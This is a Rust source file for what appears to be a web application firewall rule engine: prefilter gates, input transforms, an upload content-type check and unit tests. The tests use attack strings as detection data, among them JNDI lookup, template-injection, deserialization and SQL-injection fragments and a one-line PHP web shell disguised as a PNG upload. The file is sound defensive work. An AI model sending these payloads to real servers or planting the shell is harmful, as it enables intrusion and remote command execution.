fn rarity(b: u8) -> u32 {
    match b {
        b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b' ' => 0,
        b'.' | b',' | b'-' | b'/' | b'_' => 1,
        _ => 3,
    }
}

/// Replaces each literal by its window of at most four bytes that starts with the most
/// unusual pair (an occurrence of a literal is an occurrence of each of its substrings),
/// so the SIMD search's fingerprints (the first bytes of each literal) rarely fire on
/// text.
fn rare_windows(literals: Vec<Vec<u8>>) -> Vec<Vec<u8>> {
    let mut windows: Vec<Vec<u8>> = literals
        .iter()
        .map(|l| {
            if l.len() <= 3 {
                return l.clone();
            }
            let score = |s: usize| 2 * rarity(l[s]) + rarity(l[s + 1]);
            let start = (0..=l.len() - 3).max_by_key(|&s| (score(s), std::cmp::Reverse(s))).unwrap_or(0);
            l[start..(start + 4).min(l.len())].to_vec()
        })
        .collect();
    windows.sort();
    windows.dedup();
    let all = windows.clone();
    windows.retain(|l| !all.iter().any(|o| contains_shorter(l, o)));
    windows
}

/// One gate's literal search: SIMD (Teddy) where the CPU and the literals allow it, else
/// an Aho-Corasick automaton.
#[derive(Debug)]
enum LiteralSearch {
    Packed(aho_corasick::packed::Searcher),
    Automaton(AhoCorasick),
}

impl LiteralSearch {
    fn new(literals: &[Vec<u8>]) -> Result<LiteralSearch, String> {
        let packed = aho_corasick::packed::Config::new()
            .match_kind(aho_corasick::packed::MatchKind::LeftmostFirst)
            .builder()
            .extend(literals)
            .build();
        Ok(match packed {
            Some(searcher) => LiteralSearch::Packed(searcher),
            None => LiteralSearch::Automaton(
                AhoCorasickBuilder::new()
                    .match_kind(aho_corasick::MatchKind::LeftmostFirst)
                    .kind(Some(AhoCorasickKind::DFA))
                    .prefilter(false)
                    .build(literals)
                    .map_err(|e| format!("rules: the prefilter literals: {e}"))?,
            ),
        })
    }

    /// Does one of the literals occur in `haystack`? (A leftmost-first search finds a
    /// match whenever any literal occurs.)
    fn occurs_in(&self, haystack: &[u8]) -> bool {
        match self {
            LiteralSearch::Packed(searcher) => searcher.find(haystack).is_some(),
            LiteralSearch::Automaton(automaton) => automaton.is_match(haystack),
        }
    }
}

/// Builds the gate of each (chain, class) pair, and the literal automata they use (one
/// per distinct literal set). `regex_literals[i]` are the required literals of rule `i`
/// if it is a regex rule, `literal_sets[i]` its literals if it is a literal rule.
fn build_gates(
    set: &mut RuleSet,
    regex_literals: &[Option<Vec<Vec<u8>>>],
    literal_sets: &[Vec<Vec<u8>>],
    mut other_rules: Vec<Vec<usize>>,
) -> Result<(), String> {
    let rules = &set.rules;
    let mut gates = Vec::with_capacity(set.chains.len() * CLASS_COUNT);
    let mut sets: Vec<Vec<Vec<u8>>> = Vec::new();
    let mut automata = Vec::new();
    let mut pair_tables = Vec::new();
    let mut short_gates = Vec::new();
    let mut short_of: Vec<((usize, usize), Option<usize>)> = Vec::new();
    let mut unkeyed_gates = Vec::with_capacity(set.chains.len() * CLASS_COUNT);
    let mut key_globs = Vec::with_capacity(set.chains.len() * CLASS_COUNT);
    for (chain, (transforms, _)) in set.chains.iter().enumerate() {
        for class in 0..CLASS_COUNT {
            // A rule is keyed for the class when every target of it covering the class
            // names keys: it applies only to subjects whose key one of those matches.
            fn covering(rule: &CompiledRule, class: usize) -> impl Iterator<Item = &Target> {
                rule.targets.iter().filter(move |t| t.classes() & (1 << class) != 0)
            }
            let keyed = |rule: &CompiledRule| {
                covering(rule, class).count() > 0
                    && covering(rule, class).all(|t| matches!(t, Target::Input { key: Some(_), .. }))
            };
            let mut globs = Vec::new();
            for rule in rules.iter().filter(|r| r.chain == chain && keyed(r)) {
                for target in covering(rule, class) {
                    if let Target::Input { source, key: Some(key) } = target {
                        globs.push(KeyGlob::new(*source == Some(Source::Header), key.clone()));
                    }
                }
            }
            key_globs.push(globs);
            for with_keyed in [true, false] {
                let mut always = false;
                let mut literals: Vec<Vec<u8>> = Vec::new();
                for (index, rule) in rules.iter().enumerate() {
                    let classes = rule.targets.iter().fold(0, |acc, t| acc | t.classes());
                    if rule.chain != chain || classes & (1 << class) == 0 || (!with_keyed && keyed(rule)) {
                        continue;
                    }
                    let required = match rule.matcher {
                        Matcher::Regex => regex_literals[index].as_deref(),
                        Matcher::Literals => Some(literal_sets[index].as_slice()),
                        Matcher::Glob(_) | Matcher::ContentMismatch => continue,
                    };
                    match required {
                        Some(required) => literals.extend(required.iter().map(|l| l.to_ascii_lowercase())),
                        None => always = true,
                    }
                }
                always |= literals.len() > GATE_MAX_LITERALS;
                let literals = if always { Vec::new() } else { shrink_literals(literals) };
                let gate = if always {
                    Gate::Always
                } else if literals.is_empty() {
                    Gate::Never
                } else {
                    let search = match sets.iter().position(|s| *s == literals) {
                        Some(i) => i,
                        None => {
                            automata.push(LiteralSearch::new(&literals)?);
                            pair_tables.push(PairTable::new(&literals));
                            sets.push(literals);
                            automata.len() - 1
                        }
                    };
                    // One pre-check per chain and literal set (its table is 64 KiB).
                    let short = match short_of.iter().find(|(key, _)| *key == (chain, search)) {
                        Some(&(_, short)) => short,
                        None => {
                            let anchored = &pair_tables[search].anchored;
                            let short = ShortGate::new(transforms, anchored, search).map(|gate| {
                                short_gates.push(gate);
                                short_gates.len() - 1
                            });
                            short_of.push(((chain, search), short));
                            short
                        }
                    };
                    Gate::Literals { search, short }
                };
                if with_keyed {
                    gates.push(gate);
                } else {
                    unkeyed_gates.push(gate);
                }
            }
        }
    }
    let mut key_globs = key_globs.into_iter();
    set.plans = (0..CLASS_COUNT).map(|_| Vec::new()).collect();
    for (chain, (_, classes)) in set.chains.iter().enumerate() {
        for (class, plan) in set.plans.iter_mut().enumerate() {
            let index = chain * CLASS_COUNT + class;
            let key_globs = key_globs.next().unwrap_or_default();
            if classes & (1 << class) != 0 {
                plan.push(ChainPlan {
                    chain,
                    gate: gates[index],
                    unkeyed_gate: unkeyed_gates[index],
                    key_globs,
                    others: std::mem::take(&mut other_rules[index]),
                });
            }
        }
    }
    for (fast, plans) in set.fast_gates.iter_mut().zip(&set.plans) {
        let short = |gate| match gate {
            Gate::Never => Some(None),
            Gate::Literals { short: Some(short), .. } => Some(Some(short)),
            _ => None,
        };
        *fast = match plans.as_slice() {
            [] => FastGate::Short { keyed: None, unkeyed: None },
            [plan] if plan.others.is_empty() => match (short(plan.gate), short(plan.unkeyed_gate)) {
                // Without key globs, every key is keyed (see `ChainPlan::gate_for`).
                (Some(keyed), Some(_)) if plan.key_globs.is_empty() => FastGate::Short { keyed, unkeyed: keyed },
                (Some(keyed), Some(unkeyed)) => FastGate::Short { keyed, unkeyed },
                _ => FastGate::Walk,
            },
            _ => FastGate::Walk,
        };
    }
    set.gate_automata = automata;
    set.gate_pairs = pair_tables;
    set.short_gates = short_gates;
    Ok(())
}

/// Reusable buffers for the rule engine's transforms.
#[derive(Debug, Default)]
pub(crate) struct RuleScratch {
    a: Vec<u8>,
    b: Vec<u8>,
    c: Vec<u8>,
    /// The lowercased value the prefilter reads, for chains that do not lowercase.
    lower: Vec<u8>,
    /// The lazy DFA's state cache, for the rule set with this id.
    cache: Option<(u64, Cache)>,
}

impl RuleScratch {
    pub(crate) fn trim(&mut self) {
        for buf in [&mut self.a, &mut self.b, &mut self.c, &mut self.lower] {
            if buf.capacity() > 1 << 20 {
                *buf = Vec::new();
            }
        }
    }
}

static NEXT_RULESET_ID: AtomicU64 = AtomicU64::new(1);

/// A rule that matched: its id, its own action, and the input it matched in.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) struct RuleHit {
    pub id: u32,
    pub action: Option<RuleAction>,
    pub input: Option<usize>,
}

impl RuleSet {
    /// Compiles the default ruleset (unless the policy turns it off) and the policy's
    /// rules, minus the disabled ones.
    pub(crate) fn new(policy: &Policy) -> Result<RuleSet, Error> {
        let invalid = |msg: String| Error::new(ErrorKind::InvalidPolicy, msg);
        let defaults = if policy.default_rules { default_rules() } else { Vec::new() };
        let all: Vec<&Rule> =
            defaults.iter().chain(&policy.rules).filter(|r| !policy.disabled_rules.contains(&r.id)).collect();
        let mut set = RuleSet {
            rules: Vec::with_capacity(all.len()),
            dfa: None,
            id: NEXT_RULESET_ID.fetch_add(1, Ordering::Relaxed),
            dfa_rules: Vec::new(),
            literals: None,
            literal_rules: Vec::new(),
            chains: Vec::new(),
            plans: Vec::new(),
            gate_automata: Vec::new(),
            short_gates: Vec::new(),
            gate_pairs: Vec::new(),
            fast_gates: [FastGate::Walk; CLASS_COUNT],
        };
        let mut regexes: Vec<&str> = Vec::new();
        let mut literals: Vec<&str> = Vec::new();
        // Per rule: the required literals of a regex rule, the literals of a literal rule.
        let mut regex_literals: Vec<Option<Vec<Vec<u8>>>> = Vec::with_capacity(all.len());
        let mut literal_sets: Vec<Vec<Vec<u8>>> = Vec::with_capacity(all.len());
        for rule in &all {
            validate_rule(rule).map_err(|e| invalid(format!("rule {}: {e}", rule.id)))?;
            let targets: Vec<Target> =
                rule.targets.iter().map(|t| Target::parse(t)).collect::<Result<_, _>>().map_err(invalid)?;
            let chain: Vec<Transform> = rule.transforms.iter().filter_map(|t| Transform::from_name(t)).collect();
            let classes = targets.iter().fold(0, |acc, t| acc | t.classes());
            let chain_index = match set.chains.iter().position(|(c, _)| *c == chain) {
                Some(i) => {
                    set.chains[i].1 |= classes;
                    i
                }
                None => {
                    set.chains.push((chain, classes));
                    set.chains.len() - 1
                }
            };
            let index = set.rules.len();
            let m = &rule.matcher;
            regex_literals.push(m.regex.as_deref().and_then(required_literals));
            literal_sets.push(m.literals.iter().map(|l| l.as_bytes().to_vec()).collect());
            let matcher = if let Some(regex) = &m.regex {
                regexes.push(regex);
                set.dfa_rules.push(index);
                Matcher::Regex
            } else if !m.literals.is_empty() {
                for literal in &m.literals {
                    literals.push(literal);
                    set.literal_rules.push(index);
                }
                Matcher::Literals
            } else if let Some(glob) = &m.glob {
                Matcher::Glob(glob.as_bytes().to_vec())
            } else {
                Matcher::ContentMismatch
            };
            set.rules.push(CompiledRule {
                id: rule.id,
                action: rule.action,
                targets,
                chain: chain_index,
                matcher,
                methods: rule.methods.iter().map(|m| m.to_ascii_uppercase().into_bytes()).collect(),
            });
        }
        if !regexes.is_empty() {
            set.dfa = Some(build_dfa(&regexes).map_err(|e| invalid(format!("rules: the regex rules together: {e}")))?);
        }
        if !literals.is_empty() {
            let automaton = AhoCorasickBuilder::new()
                .ascii_case_insensitive(true)
                .kind(Some(AhoCorasickKind::DFA))
                .build(&literals)
                .map_err(|e| invalid(format!("rules: the literal sets together: {e}")))?;
            set.literals = Some(automaton);
        }
        let other_rules = (0..set.chains.len() * CLASS_COUNT)
            .map(|gate| {
                let (chain, class) = (gate / CLASS_COUNT, gate % CLASS_COUNT);
                (0..set.rules.len())
                    .filter(|&i| {
                        let rule = &set.rules[i];
                        let classes = rule.targets.iter().fold(0, |acc, t| acc | t.classes());
                        rule.chain == chain
                            && classes & (1 << class) != 0
                            && matches!(rule.matcher, Matcher::Glob(_) | Matcher::ContentMismatch)
                    })
                    .collect()
            })
            .collect();
        build_gates(&mut set, &regex_literals, &literal_sets, other_rules).map_err(invalid)?;
        Ok(set)
    }

    /// Runs every rule over `request`. An `allow` hit ends the search at once; otherwise
    /// the first hit (in subject order) is returned. `skip_input` says which inputs the
    /// policy's exclusions leave alone. `prefilter: false` runs both automata on every
    /// subject, as a reference for the prefiltered search (tests compare the two).
    pub(crate) fn evaluate(
        &self,
        request: &Request,
        scratch: &mut RuleScratch,
        skip_input: impl Fn(usize) -> bool,
        prefilter: bool,
    ) -> Option<RuleHit> {
        if self.rules.is_empty() {
            return None;
        }
        let method = request.method();
        let mut first: Option<RuleHit> = None;
        let mut visit = |subject: Subject<'_>, scratch: &mut RuleScratch| -> bool {
            if let Some(hit) = self.match_subject(&subject, method, request, scratch, prefilter) {
                if hit.action == Some(RuleAction::Allow) {
                    first = Some(hit);
                    return true;
                }
                if first.is_none() {
                    first = Some(hit);
                }
            }
            false
        };
        let plain = |class, value| Subject { class, value, input: None, source: None, key: b"" };
        // Most subjects give no rule anything to look at, which their gates tell at once.
        let closed = |class, key, value| prefilter && self.gates_closed(class, key, value);
        for (class, value) in [(CLASS_REQUEST_PATH, request.path()), (CLASS_REQUEST_METHOD, method)] {
            if !closed(class, b"", value) && visit(plain(class, value), scratch) {
                return first;
            }
        }
        for (index, input) in request.inputs().enumerate() {
            let class = source_class(input.source);
            let header = input.source == Source::Header;
            // Decided before the exclusions: an input no rule can match needs no look at
            // them.
            if closed(class, input.key, input.value) && (!header || closed(CLASS_HEADER_NAMES, input.key, input.key)) {
                continue;
            }
            if skip_input(index) {
                continue;
            }
            let subject =
                Subject { class, value: input.value, input: Some(index), source: Some(input.source), key: input.key };
            if visit(subject, scratch) {
                return first;
            }
            if input.source == Source::Header {
                let name = Subject { class: CLASS_HEADER_NAMES, value: input.key, ..subject };
                if visit(name, scratch) {
                    return first;
                }
            }
        }
        first
    }

    /// Whether a subject of `class` with this key and value is sure to match no rule:
    /// every chain for the class has neither glob nor content rules for it, and its gate
    /// is shut (no rule of it targets the class, or the short value's pre-check closes
    /// it).
    #[inline(always)]
    fn gates_closed(&self, class: u16, key: &[u8], value: &[u8]) -> bool {
        let index = class.trailing_zeros() as usize;
        if let Some(&FastGate::Short { keyed, unkeyed }) = self.fast_gates.get(index) {
            // As `ChainPlan::gate_for` chooses (they differ only for a class with a plan).
            let keyed_for =
                |plans: &[ChainPlan]| plans.first().is_some_and(|p| p.key_globs.iter().any(|k| k.matches(key)));
            let short = if keyed == unkeyed || keyed_for(&self.plans[index]) { keyed } else { unkeyed };
            return match short {
                None => true,
                Some(short) => {
                    let short = &self.short_gates[short];
                    value.len() <= SHORT_GATE_LEN && short.is_open(&self.gate_pairs[short.pairs], value) == Some(false)
                }
            };
        }
        self.gates_closed_walk(index, key, value)
    }

    /// [`RuleSet::gates_closed`] for a class that walks its plans.
    #[inline(never)]
    fn gates_closed_walk(&self, index: usize, key: &[u8], value: &[u8]) -> bool {
        let plans = self.plans.get(index).map_or(&[][..], Vec::as_slice);
        plans.iter().all(|plan| {
            plan.others.is_empty()
                && match plan.gate_for(key) {
                    Gate::Never => true,
                    Gate::Literals { short: Some(short), .. } if value.len() <= SHORT_GATE_LEN => {
                        let short = &self.short_gates[short];
                        short.is_open(&self.gate_pairs[short.pairs], value) == Some(false)
                    }
                    _ => false,
                }
        })
    }

    fn match_subject(
        &self,
        subject: &Subject<'_>,
        method: &[u8],
        request: &Request,
        scratch: &mut RuleScratch,
        prefilter: bool,
    ) -> Option<RuleHit> {
        let mut found: Option<RuleHit> = None;
        let plans = self.plans.get(subject.class.trailing_zeros() as usize).map_or(&[][..], Vec::as_slice);
        for plan in plans {
            let gate = plan.gate_for(subject.key);
            // A class no regex or literal rule of the chain targets needs the transformed
            // value only for the chain's glob and content rules; neither does a short
            // value the gate's pre-check closes.
            let mut decided = false;
            let search = match gate {
                _ if !prefilter => true,
                Gate::Never => false,
                Gate::Literals { search: _, short: Some(short) } if subject.value.len() <= SHORT_GATE_LEN => {
                    let short = &self.short_gates[short];
                    match short.is_open(&self.gate_pairs[short.pairs], subject.value) {
                        Some(open) => {
                            decided = true;
                            open
                        }
                        None => true,
                    }
                }
                _ => true,
            };
            if !search && plan.others.is_empty() {
                continue;
            }
            let search = Search { gate, open: search, decided, prefilter };
            if self.search_chain(plan, search, subject, method, request, scratch, &mut found) {
                return found;
            }
        }
        found
    }

    /// Transforms `subject` by the plan's chain and runs what `search` says on it: the
    /// automata, then the chain's glob and content rules. Kept out of line: most
    /// subjects never get here, and inlined it would make every subject pay for saving
    /// and restoring its registers. True when an `allow` rule matched (`found` is then
    /// that hit).
    #[inline(never)]
    #[allow(clippy::too_many_arguments)]
    fn search_chain(
        &self,
        plan: &ChainPlan,
        search: Search,
        subject: &Subject<'_>,
        method: &[u8],
        request: &Request,
        scratch: &mut RuleScratch,
        found: &mut Option<RuleHit>,
    ) -> bool {
        let Search { gate, open: search, decided, prefilter } = search;
        let chain_index = plan.chain;
        let chain = self.chains[chain_index].0.as_slice();
        let others = plan.others.as_slice();
        let RuleScratch { a, b, c, lower, cache } = &mut *scratch;
        let value = transform(chain, subject.value, [a, b, c]);
        let search = match gate {
            Gate::Literals { search: automaton, .. } if prefilter && search && !decided => {
                // The chain's result is lowercase when it ends by lowercasing.
                let lowercase = if chain.last() == Some(&Transform::Lowercase) {
                    value
                } else {
                    lower.clear();
                    lower.extend_from_slice(value);
                    lower.make_ascii_lowercase();
                    lower.as_slice()
                };
                self.gate_automata[automaton].occurs_in(lowercase)
            }
            _ => search,
        };
        let mut consider = |rule_index: usize| -> bool {
            let rule = &self.rules[rule_index];
            if rule.chain != chain_index || !rule.applies_to(subject, method) {
                return false;
            }
            let hit = RuleHit { id: rule.id, action: rule.action, input: subject.input };
            if found.is_none() || rule.action == Some(RuleAction::Allow) {
                *found = Some(hit);
            }
            rule.action == Some(RuleAction::Allow)
        };
        if let Some(dfa) = self.dfa.as_ref().filter(|_| search) {
            // One cache per thread's scratch, rebuilt only when the scratch meets
            // another engine's rules.
            if cache.as_ref().is_none_or(|(id, _)| *id != self.id) {
                *cache = Some((self.id, dfa.create_cache()));
            }
            let Some((_, cache)) = cache.as_mut() else { return false };
            let input = SearchInput::new(value);
            let mut state = OverlappingState::start();
            // A search error can only come from a quit byte or a lazy DFA that gave
            // up, and this one has neither (it never gives up: see `build_dfa`);
            // treat one as "no more matches".
            while dfa.try_search_overlapping_fwd(cache, &input, &mut state).is_ok() {
                let Some(m) = state.get_match() else { break };
                if consider(self.dfa_rules[m.pattern().as_usize()]) {
                    return true;
                }
            }
        }
        if let Some(ac) = self.literals.as_ref().filter(|_| search) {
            for m in ac.find_overlapping_iter(value) {
                if consider(self.literal_rules[m.pattern().as_usize()]) {
                    return true;
                }
            }
        }
        for &index in others {
            let rule = &self.rules[index];
            let matched = match &rule.matcher {
                Matcher::Glob(glob) => glob_match(glob, value),
                Matcher::ContentMismatch => subject
                    .input
                    .and_then(|i| request.file_info(i))
                    .is_some_and(|(ty, head)| content_mismatch(ty, head)),
                _ => false,
            };
            if matched && consider(index) {
                return true;
            }
        }
        false
    }
}

/// Applies a chain. Steps that cannot change the value (no `%` to decode, no NUL to
/// remove) are skipped, and the value is copied into scratch only when a step changes it:
/// most values are searched where they lie.
fn transform<'a>(chain: &[Transform], value: &'a [u8], buffers: [&'a mut Vec<u8>; 3]) -> &'a [u8] {
    let [a, b, c] = buffers;
    let mut in_scratch = false;
    for &t in chain {
        let src: &[u8] = if in_scratch { a } else { value };
        if !may_change(t, src) {
            continue;
        }
        if !in_scratch {
            // The buffers swap roles: each gets room for the whole value (outputs never grow).
            for buf in [&mut *a, &mut *b, &mut *c] {
                buf.clear();
                buf.reserve(value.len());
            }
        }
        let src: &[u8] = if in_scratch { a } else { value };
        if t == Transform::UrlDecode {
            decode_url_repeatedly(src, b, c);
        } else {
            t.apply(src, b);
        }
        std::mem::swap(a, b);
        in_scratch = true;
    }
    if in_scratch {
        a
    } else {
        value
    }
}

/// The bytes without which `t` leaves a value as it is, or `None` when it may change
/// any value.
fn changed_only_at(t: Transform) -> Option<&'static [u8]> {
    match t {
        Transform::UrlDecode => Some(b"%"),
        Transform::HtmlEntityDecode => Some(b"&"),
        Transform::EscapeDecode => Some(b"\\"),
        Transform::RemoveNulls => Some(b"\0"),
        Transform::RemoveComments => Some(b"/-#"),
        Transform::Lowercase | Transform::CompressWhitespace | Transform::NormalizePath => None,
    }
}

/// A cheap test that `t` leaves `value` as it is (false negatives only cost a copy).
/// Finding an uppercase byte (a scalar scan) would cost more than the vectorised
/// lowercasing copy it might save.
fn may_change(t: Transform, value: &[u8]) -> bool {
    match changed_only_at(t) {
        Some(&[a]) => memchr::memchr(a, value).is_some(),
        Some(&[a, b, c]) => memchr::memchr3(a, b, c, value).is_some(),
        Some(bytes) => bytes.iter().any(|&b| memchr::memchr(b, value).is_some()),
        None => true,
    }
}

/// Does a file's head contradict its declared type? Script and executable content is
/// never an image, a PDF or a document; an image type needs that image's magic number.
fn content_mismatch(declared: &[u8], head: &[u8]) -> bool {
    // No content given (a scanner reading logs, an empty file): nothing contradicts.
    if head.is_empty() {
        return false;
    }
    let starts = |magic: &[u8]| head.starts_with(magic);
    let lower_head = |needle: &[u8]| head.windows(needle.len()).take(512).any(|w| w.eq_ignore_ascii_case(needle));
    let executable = starts(b"MZ")
        || starts(b"\x7fELF")
        || starts(b"#!")
        || lower_head(b"<?php")
        || lower_head(b"<%@")
        || lower_head(b"<script");
    let ty = |t: &[u8]| declared.len() >= t.len() && declared[..t.len()].eq_ignore_ascii_case(t);
    if ty(b"image/svg") {
        return starts(b"MZ") || starts(b"\x7fELF") || lower_head(b"<?php");
    }
    if ty(b"image/png") {
        return !starts(b"\x89PNG\r\n\x1a\n");
    }
    if ty(b"image/jpeg") || ty(b"image/jpg") {
        return !starts(b"\xff\xd8\xff");
    }
    if ty(b"image/gif") {
        return !(starts(b"GIF87a") || starts(b"GIF89a"));
    }
    if ty(b"image/webp") {
        return !(starts(b"RIFF") && head.get(8..12) == Some(b"WEBP"));
    }
    if ty(b"application/pdf") {
        return !starts(b"%PDF-");
    }
    if ty(b"image/")
        || ty(b"text/plain")
        || ty(b"text/csv")
        || ty(b"application/json")
        || ty(b"audio/")
        || ty(b"video/")
    {
        return executable;
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    fn engine_rules(json: &str) -> Result<RuleSet, Error> {
        let policy = Policy::from_json(json.as_bytes())?;
        RuleSet::new(&policy)
    }

    #[test]
    fn default_ruleset_is_valid_and_compiles_fast() {
        let rules = default_rules();
        assert!(rules.len() >= 15);
        for rule in &rules {
            assert!(is_default_rule_id(rule.id), "{}", rule.id);
            validate_rule(rule).unwrap_or_else(|e| panic!("rule {}: {e}", rule.id));
        }
        let start = std::time::Instant::now();
        let set = RuleSet::new(&Policy::default()).expect("default ruleset compiles");
        let took = start.elapsed();
        assert!(set.dfa.is_some() && set.literals.is_some());
        // The target is < 50 ms in release builds; a debug build gets more room.
        eprintln!("default ruleset compiled in {took:?}");
        assert!(took.as_millis() < 2000, "compiling the default ruleset took {took:?}");
    }

    /// The short values' pre-check (pairs, then the windows up to case on the raw value)
    /// decides as the SIMD search on the transformed, lowercased value does: every
    /// window in every case, split by a byte, next to bytes each chain may change.
    #[test]
    fn short_gate_agrees_with_the_unfiltered_search() {
        let custom = r#"{"rules":[
            {"id":1,"targets":["query"],"transforms":["html_entity_decode","escape_decode"],"match":{"literals":["Evil<Tag"]}},
            {"id":2,"targets":["body"],"transforms":["remove_comments","lowercase"],"match":{"regex":"un[i]on\\s*sel"}},
            {"id":3,"targets":["header"],"match":{"regex":"~|x[0-9]"}},
            {"id":4,"targets":["cookie"],"transforms":["url_decode"],"match":{"literals":["Z"]}},
            {"id":5,"targets":["body:na*","header:X-*","query"],"match":{"literals":["Keyed"]}},
            {"id":6,"targets":["header:accept"],"match":{"regex":"q=0\\.[0-9]x"}}]}"#;
        let sets = [RuleSet::new(&Policy::default()).expect("defaults"), engine_rules(custom).expect("custom")];
        assert!(
            sets[0].gate_pairs.iter().any(|t| t.words.is_some()),
            "the scanner names of the user agent rule are searched for apart"
        );
        let pieces: &[&[u8]] = &[
            b"${jndi:",
            b"${JNDI:",
            b"$%7Bjndi:",
            b"${\0jndi:",
            b"{{7*7}}",
            b"{{ CONFIG",
            b"o:1:\"a\":1:{",
            b"O:8:",
            b"rO0AB",
            b"RO0AB",
            b"class.module.classLoader",
            b"CLASS[MODULE][CLASSLOADER]",
            b".oast.fun",
            b".OAST.Fun",
            // An anchor pair whose next byte tells it from the windows, or does not.
            b"shop.Com",
            b".cLa",
            b".oAx",
            b"sqlmap",
            b"SQLMap/1.7",
            b"() {",
            b"(){",
            b"<%= 7*7 %>",
            b"java.lang.Runtime",
            b"\xac\xed\x00\x05",
            b"evil&lt;tag",
            b"EVIL\\x3ctag",
            b"Evil<Tag",
            b"uni/**/on sel",
            b"UNION SELECT",
            b"~",
            b"X9",
            b"x",
            b"z",
            b"%5a",
            b"%",
            b"&",
            b"\\",
            b"\0",
            b"/",
            b"-",
            b"#",
            b"a",
            b" ",
            b".",
            b"$",
            b"{",
            b"o",
            b":",
            b"keyed",
            b"KEYED",
            b"q=0.9x",
            b"Q=0.1X",
            b"//",
            b"/.git",
            b"/WP-login.php",
            b".Env",
            b"~",
            b"/x/",
        ];
        let (mut request, mut path) = (Request::new(), Request::new());
        let (mut compared, mut hits) = (0, 0);
        for (i, a) in pieces.iter().enumerate() {
            for b in pieces.iter().skip(i % 3) {
                // Padded, the pieces fall at every offset of the screen's eight bytes.
                let pad = &b"plain words "[..(i + b.len()) % 12];
                for value in
                    [[*a, *b].concat(), [*b, b"q", *a].concat(), a[..a.len() / 2].to_vec(), [pad, *a, *b].concat()]
                {
                    request.reset();
                    for source in [Source::Query, Source::Body, Source::Header, Source::Cookie] {
                        for key in [&b"user-agent"[..], b"User-Agent", b"accept", b"name", b"x-Forwarded", b"other"] {
                            request.add_input(source, key, &value);
                        }
                    }
                    // The path's chain normalises it: its pre-check is another one.
                    path.set_path(&value);
                    for (set, request) in sets.iter().flat_map(|set| [(set, &request), (set, &path)]) {
                        let mut scratch = RuleScratch::default();
                        let gated = set.evaluate(request, &mut scratch, |_| false, true);
                        let unfiltered = set.evaluate(request, &mut scratch, |_| false, false);
                        assert_eq!(gated, unfiltered, "{:?}", String::from_utf8_lossy(&value));
                        compared += 1;
                        hits += usize::from(gated.is_some());
                    }
                }
            }
        }
        assert!(compared > 5_000 && hits > 1_000 && hits < compared, "{hits} hits in {compared}");
    }

    /// Evaluation skips a subject when its gates say no rule can match it; the rules no
    /// gate can vouch for still run: a regex without required literals, a rule on header
    /// names, path and method access control (globs), an allow rule, a keyed rule, file
    /// content checks, values whose transforms change them. Each case must give its rule,
    /// as the unfiltered evaluation does.
    #[test]
    fn gated_evaluation_runs_every_rule_it_must() {
        let set = engine_rules(
            r#"{"rules":[
                {"id":11,"targets":["body"],"match":{"regex":"^[^%]*zq[^%]*$"}},
                {"id":12,"targets":["header_names"],"transforms":["lowercase"],"match":{"literals":["x-evil"]}},
                {"id":13,"targets":["request.path"],"match":{"glob":"/admin/*"},"methods":["DELETE"],"action":"block"},
                {"id":14,"targets":["request.path"],"match":{"glob":"/health"},"action":"allow"},
                {"id":15,"targets":["header:x-token"],"match":{"regex":"^tok_[0-9]{3}$"}},
                {"id":16,"targets":["cookie"],"transforms":["html_entity_decode"],"match":{"literals":["<b>"]}}
            ]}"#,
        )
        .expect("rules compile");
        assert!(
            set.plans.iter().flatten().any(|p| matches!(p.gate, Gate::Always)),
            "the regex without literals makes its gate always open"
        );
        type Inputs<'a> = &'a [(Source, &'a str, &'a str)];
        let cases: &[(&str, Inputs<'_>, u32)] = &[
            ("/", &[(Source::Body, "note", "plain words")], 0),
            ("/", &[(Source::Body, "note", "a zq b")], 11),
            ("/", &[(Source::Header, "X-Evil-Thing", "fine"), (Source::Query, "q", "fine")], 12),
            ("/admin/users", &[(Source::Query, "q", "fine")], 13),
            ("/health", &[(Source::Body, "note", "a zq b"), (Source::Query, "q", "${jndi:ldap://x/a}")], 0),
            ("/", &[(Source::Header, "X-Token", "tok_123")], 15),
            ("/", &[(Source::Header, "X-Other", "tok_123")], 0),
            ("/", &[(Source::Cookie, "c", "&lt;b&gt;")], 16),
            ("/", &[(Source::Header, "accept", "%24%7Bjndi:ldap://x%7D")], 900500),
            ("/", &[(Source::Query, "q", "$\0{jndi:x}")], 900500),
            ("/", &[(Source::Query, "q", "$%00{jndi:x}")], 900500),
            ("/a//.git/config", &[], 900200),
            ("/static//x/../.ENV", &[], 900201),
            ("/blog/WP-login.php", &[], 900202),
            ("/a\\b\\db.sql", &[], 900203),
            ("/account/orders/1234/review", &[(Source::Body, "note", "plain words")], 0),
        ];
        let mut scratch = RuleScratch::default();
        for &(path, inputs, expected) in cases {
            for method in ["GET", "DELETE"] {
                let mut r = Request::new();
                r.set_path(path.as_bytes());
                r.set_method(method.as_bytes());
                for &(source, key, value) in inputs {
                    r.add_input(source, key.as_bytes(), value.as_bytes());
                }
                let gated = set.evaluate(&r, &mut scratch, |_| false, true);
                let unfiltered = set.evaluate(&r, &mut scratch, |_| false, false);
                assert_eq!(gated, unfiltered, "{path} {method} {inputs:?}");
                let expected = match expected {
                    13 if method == "GET" => 0,
                    _ => expected,
                };
                let id = gated.filter(|h| h.action != Some(RuleAction::Allow)).map_or(0, |h| h.id);
                assert_eq!(id, expected, "{path} {method} {inputs:?}");
            }
        }
        let mut r = Request::new();
        r.add_file(b"upload", b"avatar.png", b"image/png", b"<?php system($_GET['c']); ?>");
        let gated = set.evaluate(&r, &mut scratch, |_| false, true);
        assert_eq!(gated, set.evaluate(&r, &mut scratch, |_| false, false));
        assert_eq!(gated.map(|h| h.id), Some(900302));
    }

    #[test]
    fn bad_rules_are_policy_errors_naming_the_rule() {
        let err = |json: &str| engine_rules(json).expect_err("must be rejected").to_string();
        let bad_regex = err(r#"{"rules":[{"id":7,"targets":["query"],"match":{"regex":"(unclosed"}}]}"#);
        assert!(bad_regex.contains("rules[0] (id 7): match.regex"), "{bad_regex}");
        let bad_transform =
            err(r#"{"rules":[{"id":8,"targets":["query"],"transforms":["rot13"],"match":{"literals":["x"]}}]}"#);
        assert!(bad_transform.contains("(id 8): transforms: unknown transform `rot13`"), "{bad_transform}");
        let huge = err(r#"{"rules":[{"id":9,"targets":["query"],"match":{"regex":"(?:[a-z]{1000}){1000}"}}]}"#);
        assert!(huge.contains("(id 9)") && huge.contains("larger than the limit"), "{huge}");
        let two = err(r#"{"rules":[{"id":10,"targets":["query"],"match":{"regex":"a","glob":"b"}}]}"#);
        assert!(two.contains("exactly one of"), "{two}");
